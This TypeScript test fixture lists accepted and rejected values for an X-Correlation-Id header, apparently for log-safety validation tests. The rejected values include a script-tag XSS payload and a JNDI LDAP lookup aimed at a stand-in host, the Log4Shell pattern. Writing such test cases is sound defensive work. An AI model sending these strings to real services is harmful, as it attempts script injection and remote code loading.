export const goodCorrelationIds = [
  "c",
  "order:42/a_b.c-d+e=",
  "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
  "a".repeat(128),
];

/** Header lines with ids that nobody would want in a log. */
export const badCorrelationIds: readonly (readonly [title: string, lines: readonly string[]])[] = [
  ["none", []],
  ["an empty one", ["X-Correlation-Id:"]],
  ["one of 129 characters", [`X-Correlation-Id: ${"a".repeat(129)}`]],
  ["one of 2,500 characters", [`X-Correlation-Id: ${"a".repeat(2500)}`]],
  ["one of 8 kB", [`X-Correlation-Id: ${"a".repeat(8000)}`]],
  ["markup", ["X-Correlation-Id: <script>alert(1)</script>"]],
  ["letters that are not ASCII", ["X-Correlation-Id: \xc3\xa9"]],
  ["blanks", ["X-Correlation-Id: a b"]],
  ["a tab", ["X-Correlation-Id: a\tb"]],
  ["a JSON text", ['X-Correlation-Id: {"a":1}']],
  ["a lookup", ["X-Correlation-Id: ${jndi:ldap://a.example.com}"]],
  ["one that begins with a hyphen", ["X-Correlation-Id: -a"]],
  ["two in one header", ["X-Correlation-Id: a, b"]],
  ["two headers", ["X-Correlation-Id: a", "X-Correlation-Id: b"]],
  ["two equal headers", ["X-Correlation-Id: a", "x-correlation-id: a"]],
  ["a good header behind an empty one", ["X-Correlation-Id:", "X-Correlation-Id: a"]],
];
